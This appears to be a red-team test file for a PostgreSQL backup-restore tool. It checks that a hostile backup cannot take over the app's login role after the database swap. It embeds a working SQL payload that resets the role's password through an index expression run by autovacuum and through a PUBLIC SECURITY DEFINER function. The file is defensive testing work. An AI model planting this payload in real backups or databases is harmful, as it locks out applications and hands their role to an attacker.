import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureImage, inActivity, PASSWORD, query, removeContainers } from '../helpers';
import { asRole, CANARY_PASSWORD, CANARY_ROLE, operatorServer, type RedteamServer } from './setup';

/**
 * Red team, attack 2: after the swap the backup's code takes over the service's LOGIN role.
 *
 * On a server set up with the operator role, `shop` is no superuser, so restoredObjectsOwner hands every restored
 * object to `shop` itself: the role the apps log in as. PostgreSQL lets any role change its own password, and
 * "its own" is current_user: an index expression evaluated by ANALYZE/autovacuum (as the table's owner) or a
 * SECURITY DEFINER function any role may call runs as `shop`, so it can set `shop`'s password. Nobody has to do
 * anything: autovacuum analyses the restored tables on its own. The apps are locked out (production down) and the
 * backup's author logs in as `shop` over the network, with shop's rights in every database shop owns (the
 * `_pre_restore_` copy included), not just the restored one.
 *
 * Asserts the safe outcome: it FAILS while the attack works.
 */

const FILE = 'shop_20240502_020000.sql.gz';
const ATTACKER_PASSWORD = 'attacker-pw';
const PAYLOAD = `
CREATE FUNCTION public.grab() RETURNS void LANGUAGE plpgsql AS $g$
BEGIN
  IF current_user NOT LIKE 'opareta\\_restore\\_%' THEN
    EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD %L', current_user, '${ATTACKER_PASSWORD}');
  END IF;
EXCEPTION WHEN OTHERS THEN NULL;
END
$g$;
CREATE FUNCTION public.stamp(id integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $s$
BEGIN
  PERFORM public.grab();
  RETURN id;
END
$s$;
CREATE INDEX customers_stamp ON public.customers (public.stamp(id));
CREATE FUNCTION public.helper() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $h$
BEGIN
  PERFORM public.grab();
END
$h$;
GRANT EXECUTE ON FUNCTION public.helper() TO PUBLIC;
`;

let env: RedteamServer;

beforeAll(async () => {
  await ensureImage();
  env = await operatorServer('svcpw', FILE, PAYLOAD);
});

afterAll(async () => {
  await removeContainers([env?.server.name].filter(Boolean));
  await env?.backups.remove();
});

const names = {
  live: 'shop_db',
  side: 'shop_db_restore_svcpw',
  preRestore: 'shop_db_pre_restore_svcpw',
  failedRestore: 'shop_db_failed_restore_svcpw',
};

async function canLogIn(password: string, database = 'shop_db'): Promise<boolean> {
  return asRole(env.server, 'shop', password, database, 'SELECT 1').then(
    () => true,
    () => false,
  );
}

describe("a backup's code after the swap, on a server set up with the operator role", () => {
  it('restores, verifies and swaps in; the objects go to shop', async () => {
    const result = await inActivity(() =>
      env.activities.restoreBackup({ service: 'shop', file: FILE, targetDatabase: names.side }),
    );
    const report = await inActivity(() =>
      env.activities.verifyRestoredDatabase({ service: 'shop', database: names.side, expected: result.tables }),
    );
    expect(report.passed).toBe(true);
    expect(await inActivity(() => env.activities.swapDatabaseNames({ service: 'shop', names }))).toBe('swapped');
    expect(await canLogIn(PASSWORD)).toBe(true);
  });

  it("ANALYZE (what autovacuum runs by itself) does not change the apps' role's password", async () => {
    await query(env.server, 'ANALYZE public.customers', 'shop_db');
    const attacker = await canLogIn(ATTACKER_PASSWORD, names.preRestore);
    const apps = await canLogIn(PASSWORD);
    console.log('attack 2 (autovacuum):', { attackerLogsInAsShop: attacker, appsStillLogIn: apps });
    expect(attacker).toBe(false);
    expect(apps).toBe(true);
  });

  it('a SECURITY DEFINER function called by any login role does not either', async () => {
    await query(env.server, `ALTER ROLE shop PASSWORD '${PASSWORD}'`);
    await asRole(env.server, CANARY_ROLE, CANARY_PASSWORD, 'shop_db', 'SELECT public.helper()').catch(() => undefined);
    const attacker = await canLogIn(ATTACKER_PASSWORD);
    console.log('attack 2 (SECURITY DEFINER):', { attackerLogsInAsShop: attacker });
    expect(attacker).toBe(false);
  });
});
